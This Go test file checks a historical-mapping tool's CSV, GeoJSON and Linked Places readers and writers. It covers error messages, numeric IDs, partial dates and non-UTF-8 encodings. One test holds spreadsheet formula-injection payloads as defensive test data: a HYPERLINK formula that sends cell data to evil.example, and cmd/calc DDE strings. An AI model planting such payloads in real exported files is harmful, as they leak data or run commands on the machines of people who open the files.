package formats

import (
	"bytes"
	"errors"
	"regexp"
	"strings"
	"testing"

	"github.com/paulmach/orb"
	"github.com/paulmach/orb/encoding/wkt"
	"golang.org/x/text/encoding/charmap"

	"github.com/chronomap/chronomap/internal/dataset"
)

// goTypeNames matches what encoding/json says of Go types ("Go struct
// field", "of type formats.lpfBound"), which no error may show.
var goTypeNames = regexp.MustCompile(`Go (struct|value)|of type|formats\.|dataset\.|\bstruct\b`)

// TestBadInputErrors: each bad file is refused with the file, line (and
// column for JSON) and what is wrong, and never with Go type names.
func TestBadInputErrors(t *testing.T) {
	t.Parallel()
	csvFile := func(s string) func() error {
		return func() error { _, err := ReadCSV(strings.NewReader(s), "in.csv", twoCities); return err }
	}
	geoJSON := func(s string) func() error {
		return func() error { _, err := ReadGeoJSON(strings.NewReader(s), "in.geojson"); return err }
	}
	lpf := func(s string) func() error {
		return func() error { _, err := ReadLPF(strings.NewReader(s), "in.lpf.json"); return err }
	}
	const point = `{"type":"Feature","id":"a","geometry":{"type":"Point","coordinates":[2.35,48.86]},"properties":{"when":"1902"}}`
	tests := []struct {
		name string
		read func() error
		want string // the whole message, or its start when it ends in "…"
	}{
		{"CSV quote alone on a line (it panicked)", csvFile("when\n\"\n"),
			`in.csv:2:3: CSV: extraneous or missing " in quoted-field`},
		{"CSV quote left open", csvFile("toponym,when\nЛондон,1902\n\"Париж,1903\nБерлин,1904\nРим,1905\n"),
			`in.csv:3: CSV: extraneous or missing " in quoted-field: this row's quoted field runs on to line 5 (a quote left open?)`},
		{"CSV row with a field too many", csvFile("toponym,when\nЛондон,1902,extra\n"),
			"in.csv:2: CSV: this row has a different number of fields than the header's 2 (a comma too many or too few, or a field not quoted?)"},
		{"CSV row with a field too few", csvFile("toponym,when,type\nЛондон,1902\n"),
			"in.csv:2: CSV: this row has a different number of fields than the header's 3…"},
		{"CSV misspelt column", csvFile("id,lon,lattitude,when\na,2,48,1902\n"),
			`in.csv:1: CSV header: unknown column "lattitude"; the columns are collection, id, type, when…`},
		{"CSV misspelt type column", csvFile("id,tpye,when\na,meeting,1902\n"),
			`in.csv:1: CSV header: unknown column "tpye"…`},
		{"CSV column twice", csvFile("toponym,place,when\nЛондон,Лондон,1902\n"),
			"in.csv:1: CSV header: columns 1 and 2 both name place"},
		{"CSV duplicate id", csvFile("id,toponym,when\na,Лондон,1902\nb,Лондон,1903\na,Брюссель,1903\n"),
			"in.csv:4: id a is already used by the events row at line 2"},
		{"CSV longitude out of range", csvFile("id,lon,lat,when\na,500,48,1902\n"),
			"in.csv:2: lon,lat: longitude 500 is outside [-180, 180] degrees…"},
		{"CSV latitude NaN", csvFile("id,lon,lat,when\na,2,NaN,1902\n"),
			"in.csv:2: lon,lat: latitude NaN is outside [-90, 90] degrees…"},
		{"CSV empty", csvFile(""), "in.csv:1: CSV: the file is empty; the first line names the columns"},
		{"CSV type outside the vocabulary", csvFile("toponym,when,type\nТифлис,1902-06,coronation\n"),
			`in.csv:2: type "coronation" is not one of meeting, publication, relocation, trip, lecture, school, congress, representation, other`},
		{"CSV earliest that is no date", csvFile("id,lon,lat,when,earliest\na,2,48,1890,1890-13-45\n"),
			`in.csv:2: earliest: "1890-13-45" is not a date (YYYY-MM-DD)…`},
		{"CSV latest that disagrees with when", csvFile("id,lon,lat,when,latest\na,2,48,1890,1890-06-30\n"),
			`in.csv:2: latest: 1890-06-30 disagrees with when "1890", whose latest is 1890-12-31`},
		{"GeoJSON type outside the vocabulary", geoJSON(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":"a","geometry":null,"properties":{"when":"1902","type":"coronation"}}]}`),
			`in.geojson:2:1: feature 0 (id a): type "coronation" is not one of…`},
		{"GeoJSON longitude 500", geoJSON(`{"type":"FeatureCollection","features":[
` + point + `,
  {"type":"Feature","id":"b","geometry":{"type":"Point","coordinates":[500,48]},"properties":{"when":"1902"}}]}`),
			"in.geojson:3:41: feature 1 (id b): longitude 500 is outside [-180, 180] degrees…"},
		{"GeoJSON latitude -200 in a line", geoJSON(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":"m","geometry":{"type":"LineString","coordinates":[[2,48],[3,-200]]},"properties":{"when":"1902"}}]}`),
			"in.geojson:2:39: feature 0 (id m): latitude -200 is outside [-90, 90] degrees…"},
		{"GeoJSON duplicate id", geoJSON(`{"type":"FeatureCollection","features":[
` + point + `,
` + point + `]}`), "in.geojson:3:1: feature 1: id a is already used by the events feature at line 2"},
		{"GeoJSON syntax error", geoJSON("{\"type\":\"FeatureCollection\",\n \"features\":[{\"id\": \"a\",,}]}"),
			"in.geojson:2:25: JSON syntax: invalid character ',' looking for beginning of object key string"},
		{"GeoJSON truncated", geoJSON(`{"type":"FeatureCollection","features":[` + point),
			"in.geojson:1:152: JSON syntax: the file ends in the middle of a value"},
		{"GeoJSON wrong JSON type", geoJSON(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":"a","geometry":null,"properties":{"when":"1902","actors":"Lenin"}}]}`),
			"in.geojson:2:81: feature 0 (id a): properties.actors: want a list, got string"},
		{"GeoJSON not a collection", geoJSON(`{"type":"Feature"}`), `in.geojson:1:9: GeoJSON: want a FeatureCollection ("type": "FeatureCollection"), got "Feature"`},
		{"GeoJSON id neither string nor number", geoJSON(`{"type":"FeatureCollection","features":[{"id":[1]}]}`),
			"in.geojson:1:47: feature 0: id [1]: want a string or a number"},
		{"LPF without @context", lpf(`{"type":"FeatureCollection","features":[
{"@id":"p","type":"Feature","properties":{"title":"P"},"names":[{"toponym":"P"}],"geometry":{"type":"Point","coordinates":[1,2]}}]}`),
			"in.lpf.json:1:1: Linked Places: no @context: a Linked Places file is JSON-LD and names its context…"},
		{"LPF duplicate @id", lpf(`{"type":"FeatureCollection","@context":"x","features":[
{"@id":"p","properties":{"title":"P"},"geometry":null},
{"@id":"p","properties":{"title":"Q"},"geometry":null}]}`), "in.lpf.json:3:1: Linked Places feature 1: @id p is already used by the place at line 2"},
		{"LPF bound that is not a date", lpf(`{"type":"FeatureCollection","@context":"x","features":[
{"@id":"p","properties":{"title":"P"},"geometry":null,"when":{"timespans":[{"start":{"in":true}}]}}]}`),
			"in.lpf.json:2:62: Linked Places feature 0: when: true is not a date"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.read()
			if err == nil {
				t.Fatal("accepted")
			}
			want, prefix := strings.CutSuffix(tc.want, "…")
			if got := err.Error(); got != want && !(prefix && strings.HasPrefix(got, want)) {
				t.Errorf("error\n  %s\nwant\n  %s", got, tc.want)
			}
			if goTypeNames.MatchString(err.Error()) {
				t.Errorf("error names Go types: %s", err)
			}
			var pe *PosError
			if !errors.As(err, &pe) || pe.Line == 0 {
				t.Errorf("error has no position: %#v", err)
			}
		})
	}
}

// TestNumericIDsKeepTheirDigits: 1000000 stays "1000000" (not "1e+06"),
// and 2^53 and 2^53+1, which are one float64, stay two ids.
func TestNumericIDsKeepTheirDigits(t *testing.T) {
	t.Parallel()
	recs, err := ReadGeoJSON(strings.NewReader(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":1000000,"geometry":null,"properties":{"when":"1902"}},
{"type":"Feature","id":9007199254740992,"geometry":null,"properties":{"when":"1902"}},
{"type":"Feature","id":9007199254740993,"geometry":null,"properties":{"when":"1902"}},
{"type":"Feature","id":-7.50,"geometry":null,"properties":{"when":"1902"}}]}`), "ids.geojson")
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, e := range recs.Events {
		ids = append(ids, e.ID)
	}
	if got := strings.Join(ids, " "); got != "1000000 9007199254740992 9007199254740993 -7.50" {
		t.Errorf("ids %s", got)
	}
}

// TestLPFPartialDatesAndNullGeometries: a bound given as a bare year
// ("1801" or 1801) is that year; null geometries, and null members of a
// GeometryCollection, mean no geometry, and such a place survives an
// export and import.
func TestLPFPartialDatesAndNullGeometries(t *testing.T) {
	t.Parallel()
	doc := `{"type":"FeatureCollection","@context":"` + LPFContext + `","features":[
{"@id":"a","type":"Feature","properties":{"title":"A"},"when":{"timespans":[{"start":"1801","end":{"in":1850}}]},
 "geometry":{"type":"GeometryCollection","geometries":["null",null,{"type":"Point","coordinates":[10,20]}]}},
{"@id":"b","type":"Feature","properties":{"title":"B"},"when":{"timespans":[{"start":{"earliest":-700,"latest":"-0650"},"end":{"earliest":"1200","latest":"1300-06"}}]},
 "geometry":{"type":"GeometryCollection","geometries":[null]}},
{"@id":"c","type":"Feature","properties":{"title":"C"},"geometry":null}]}`
	recs, err := ReadLPF(strings.NewReader(doc), "partial.lpf.json")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, p := range recs.Places {
		pt := "none"
		if p.Point != nil {
			pt = wkt.MarshalString(*p.Point)
		}
		got[p.ID] = str(p.Props.Earliest) + ".." + str(p.Props.Latest) + " " + pt
	}
	want := map[string]string{
		"a": "1801-01-01..1850-12-31 POINT(10 20)",
		"b": "-0700-01-01..1300-06-30 none",
		"c": ".. none",
	}
	for id, w := range want {
		if got[id] != w {
			t.Errorf("%s: %s, want %s", id, got[id], w)
		}
	}
	// Places without geometry go through every format and the store.
	for _, f := range allFormats {
		var buf bytes.Buffer
		if err := f.write(&buf, recs); err != nil {
			t.Fatal(err)
		}
		back, err := f.read(&buf)
		if err != nil {
			t.Fatalf("%s: %v", f.name, err)
		}
		if len(back.Places) != 3 || back.Places[2].Point != nil || back.Places[0].Point == nil {
			t.Errorf("%s: places after the round trip %+v", f.name, back.Places)
		}
	}
	if _, err := dataset.Assemble(recs); err != nil {
		t.Errorf("assemble: %v", err)
	}
}

// TestCSVFormulaInjection: cells a spreadsheet would run as formulas go
// out with a leading apostrophe, numbers as they are, and import gives back
// every value exactly.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	names := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3", "\tindented", "\rreturn", "'already quoted", "''=twice", " leading space", "trailing space ", "plain", "Лондон",
	}
	var recs dataset.Records
	for i, n := range names {
		pt := orb.Point{-0.128, -51.5 + float64(i)}
		recs.Places = append(recs.Places, dataset.PlaceRecord{ID: n, Point: &pt, Props: dataset.PlaceProperties{Name: n, Toponyms: []string{n}}})
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, recs); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, cell := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'\tindented", "''already quoted", "'''=twice", "' leading space", "'trailing space ",
		",-0.128,-51.5,"} {
		if !strings.Contains(out, cell) {
			t.Errorf("export lacks %q:\n%s", cell, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		for _, field := range strings.Split(line, ",") {
			if field != "" && strings.ContainsRune("=+@", rune(field[0])) {
				t.Errorf("a cell starts with %q: %s", field[0], line)
			}
		}
	}
	back, err := ReadCSV(strings.NewReader(out), "injection.csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range back.Places {
		if p.ID != names[i] || p.Props.Name != names[i] || p.Props.Toponyms[0] != names[i] || *p.Point != *recs.Places[i].Point {
			t.Errorf("row %d came back as %q %q %q %v", i, p.ID, p.Props.Name, p.Props.Toponyms, p.Point)
		}
	}
}

// TestNotUTF8IsRefusedWithItsEncoding: a CSV, GeoJSON or LPF file in an
// 8-bit Cyrillic encoding (which used to import as garbled text) is
// refused at the line of its first byte that is not UTF-8, with the
// encoding it is in and the iconv command; a UTF-8 byte-order mark is
// read past.
func TestNotUTF8IsRefusedWithItsEncoding(t *testing.T) {
	t.Parallel()
	encode := func(cm *charmap.Charmap, s string) string {
		b, err := cm.NewEncoder().String(s)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	const sentence = "Ленин приехал в Лондон весной 1902 года."
	tests := []struct {
		name string
		read func() error
		want string
	}{
		{"CSV in CP1251", func() error {
			_, err := ReadCSV(strings.NewReader("toponym,when,summary\nБрюссель,1902,arrival\n"+encode(charmap.Windows1251, "Лондон,1902-21,"+sentence+"\n")), "in.csv", twoCities)
			return err
		}, "in.csv:3: byte 0xcb at offset 51 is not UTF-8; the file looks like Russian in CP1251 (Windows Cyrillic): convert it with iconv -f CP1251 -t UTF-8 in.csv > in.utf8.csv"},
		{"GeoJSON in KOI8-R", func() error {
			_, err := ReadGeoJSON(strings.NewReader(encode(charmap.KOI8R, `{"type":"FeatureCollection","features":[
{"type":"Feature","id":"a","geometry":null,"properties":{"when":"1902","summary":"`+sentence+`"}}]}`)), "in.geojson")
			return err
		}, "in.geojson:2: byte 0xec at offset 123 is not UTF-8; the file looks like Russian in KOI8-R (Unix Cyrillic): convert it with iconv -f KOI8-R -t UTF-8 in.geojson > in.utf8.geojson"},
		{"LPF in CP1251", func() error {
			_, err := ReadLPF(strings.NewReader(encode(charmap.Windows1251, `{"type":"FeatureCollection","@context":"x","features":[
{"type":"Feature","@id":"p","geometry":null,"properties":{"title":"Лондон"},"names":[{"toponym":"`+sentence+`"}]}]}`)), "in.lpf.json")
			return err
		}, "in.lpf.json:2: byte 0xcb at offset 123 is not UTF-8; the file looks like Russian in CP1251 (Windows Cyrillic): convert it with iconv -f CP1251 -t UTF-8 in.lpf.json > in.lpf.utf8.json"},
	}
	for _, tc := range tests {
		if err := tc.read(); err == nil || err.Error() != tc.want {
			t.Errorf("%s:\n err = %v\nwant %s", tc.name, err, tc.want)
		}
	}
	const bom = "\ufeff"
	recs, err := ReadCSV(strings.NewReader(bom+"toponym,when\nЛондон,1902\n"), "bom.csv", twoCities)
	if err != nil || len(recs.Events) != 1 || len(recs.Events[0].Props.PlaceIDs) != 1 || recs.Events[0].Props.PlaceIDs[0] != "t:london" {
		t.Errorf("CSV with a byte-order mark: %+v, %v", recs.Events, err)
	}
	recs, err = ReadGeoJSON(strings.NewReader(bom+`{"type":"FeatureCollection","features":[{"type":"Feature","id":"a","geometry":null,"properties":{"when":"1902"}}]}`), "bom.geojson")
	if err != nil || len(recs.Events) != 1 || recs.Events[0].ID != "a" {
		t.Errorf("GeoJSON with a byte-order mark: %+v, %v", recs.Events, err)
	}
}
